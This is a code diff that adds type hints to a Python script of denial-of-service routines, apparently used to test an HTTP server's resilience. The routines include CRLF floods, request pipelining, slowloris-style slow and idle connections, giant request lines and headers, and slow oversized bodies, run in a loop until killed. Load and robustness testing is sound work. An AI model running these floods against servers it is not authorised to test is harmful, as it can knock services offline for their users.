@@ -12,21 +12,25 @@ import os
 import socket
 import sys
 import time
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
 
 
-def connect(at):
+def connect(at: tuple[str, int]) -> socket.socket:
     """A client that gives up on a server that does not take what it sends."""
     return socket.create_connection(at, timeout=1.0)
 
 
-def crlf_flood(at):
+def crlf_flood(at: tuple[str, int]) -> None:
     """Empty lines before a request, which are passed over, without end."""
     with connect(at) as sock:
         for _ in range(75):
             sock.sendall(b"\r\n" * 32768)
 
 
-def pipelining(at):
+def pipelining(at: tuple[str, int]) -> None:
     """One connection asks a thousand times at once, and reads what comes."""
     with connect(at) as sock:
         sock.sendall(b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n" * 1000)
@@ -35,7 +39,7 @@ def pipelining(at):
                 return
 
 
-def pipelining_unread(at):
+def pipelining_unread(at: tuple[str, int]) -> list[socket.socket]:
     """Sixteen that read nothing of it."""
     found = [connect(at) for _ in range(16)]
     for sock in found:
@@ -45,7 +49,7 @@ def pipelining_unread(at):
     return found
 
 
-def slow_clients(at):
+def slow_clients(at: tuple[str, int]) -> list[socket.socket]:
     """Three hundred that send a byte now and then."""
     found = []
     for _ in range(300):
@@ -60,7 +64,7 @@ def slow_clients(at):
     return found
 
 
-def one_byte(at):
+def one_byte(at: tuple[str, int]) -> list[socket.socket]:
     """As many as there are places, each a byte, and again when they are cut."""
     found = [connect(at) for _ in range(256)]
     for sock in found:
@@ -69,7 +73,7 @@ def one_byte(at):
     return found
 
 
-def idle(at):
+def idle(at: tuple[str, int]) -> list[socket.socket]:
     """Whole requests, and then nothing: connections that are kept."""
     found = [connect(at) for _ in range(256)]
     for sock in found:
@@ -78,7 +82,7 @@ def idle(at):
     return found
 
 
-def unread(at):
+def unread(at: tuple[str, int]) -> list[socket.socket]:
     """A page each, which nobody takes."""
     found = [connect(at) for _ in range(256)]
     for sock in found:
@@ -88,7 +92,7 @@ def unread(at):
     return found
 
 
-def huge_head(at):
+def huge_head(at: tuple[str, int]) -> None:
     """A request line, and header fields, that do not end."""
     with connect(at) as sock:
         sock.sendall(b"GET /" + b"a" * (4 << 20))
@@ -96,7 +100,7 @@ def huge_head(at):
         sock.sendall(b"GET / HTTP/1.1\r\n" + b"A: b\r\n" * (1 << 20))
 
 
-def bodies(at):
+def bodies(at: tuple[str, int]) -> list[socket.socket]:
     """What is not asked for, promised large and sent slowly."""
     found = [connect(at) for _ in range(40)]
     for sock in found:
@@ -105,7 +109,7 @@ def bodies(at):
     return found
 
 
-ATTACKS = {
+ATTACKS: dict[str, Callable[[tuple[str, int]], list[socket.socket] | None]] = {
     attack.__name__: attack
     for attack in (
         crlf_flood,
@@ -121,12 +125,12 @@ ATTACKS = {
 }
 
 
-def main(name, host, port):
+def main(name: str, host: str, port: str) -> None:
     """Until somebody kills it."""
     os.nice(5)  # the attacker is another machine: it takes no time from the server
-    kept = []
+    kept: list[socket.socket] = []
     while True:
-        made = []
+        made: list[socket.socket] = []
         with contextlib.suppress(OSError):
             made = ATTACKS[name]((host, int(port))) or []
         for sock in kept:
